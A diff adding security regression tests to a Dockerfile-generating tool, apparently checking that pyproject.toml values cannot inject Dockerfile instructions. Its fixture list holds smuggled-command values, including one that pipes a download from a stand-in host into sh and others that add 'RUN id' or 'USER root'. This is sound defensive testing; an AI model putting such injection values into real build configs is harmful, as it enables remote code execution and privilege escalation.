@@ -184,3 +184,47 @@ def test_an_ejected_header_is_recognised_with_or_without_an_old_syntax_line():
     assert ejected_hash(header + "FROM x\n") == "0123456789ab"
     assert ejected_hash("# syntax=docker/dockerfile:1\n" + header) == "0123456789ab"
     assert ejected_hash("FROM x\n" + "RUN true\n" + header) is None
+
+
+# S6: each value reached the Dockerfile raw; a newline or ';' started an instruction or a command.
+INJECTIONS = [
+    ("base-newline", 'base-image = "python:3.11-slim\\nRUN curl -s https://x.example | sh\\n#"',
+     "'base-image' must be an image reference"),
+    ("base-space", 'base-image = "python:3.11 AS x"', "'base-image' must be an image reference"),
+    ("package-semicolon", 'system-packages = ["curl; echo INJECTED"]',
+     "'system-packages' has 'curl; echo INJECTED'"),
+    ("package-newline", 'system-packages = ["curl\\nRUN id"]', "not a Debian package name"),
+    ("package-name", 'package = "x\\nRUN id"', "'package' must be an importable package name"),
+    ("env-newline", 'env = { A = "a\\nRUN\\tid" }', "'env' values must not hold control"),
+    ("exclude-newline", 'exclude = ["*.csv\\n!secrets"]', "'exclude' must not hold control"),
+    ("cmd-newline", 'cmd = ["run\\nUSER root"]', "'cmd' must not hold control"),
+    ("tool-a-number", None, "must be a table"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("body", "message"), [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS]
+)
+def test_no_table_value_can_start_a_dockerfile_instruction(repo, body, message):
+    if body is None:
+        (repo / "pyproject.toml").write_text("tool = 5\n")
+    else:
+        with_table(repo, body + "\n")
+    for verb in ("show", "eject"):
+        result = container(repo, verb)
+        assert result.returncode == 2, result.stdout + result.stderr
+        assert result.stdout == "" and "Traceback" not in result.stderr
+        assert len(result.stderr.splitlines()) == 1 and message in result.stderr, result.stderr
+    assert not (repo / "Dockerfile").exists() and not (repo / ".dockerignore").exists()
+
+
+def test_env_values_are_quoted_so_a_trailing_backslash_joins_nothing(repo):
+    """`ENV A=x\\` then a newline made the next instruction (USER) part of ENV: the image ran as
+    root. Values that are not plain are written quoted, and every instruction stays."""
+    with_table(repo, 'env = { A = "x\\\\", B = "say \\"hi\\"", C = "plain/value:1" }\n')
+    result = container(repo, "show")
+    assert result.returncode == 0, result.stderr
+    dockerfile = _dockerfile(result.stdout)
+    env_line = next(line for line in dockerfile.splitlines() if line.startswith("ENV PATH"))
+    assert env_line.endswith('A="x\\\\" B="say \\"hi\\"" C=plain/value:1')
+    assert any(line.startswith("USER ") for line in dockerfile.splitlines())
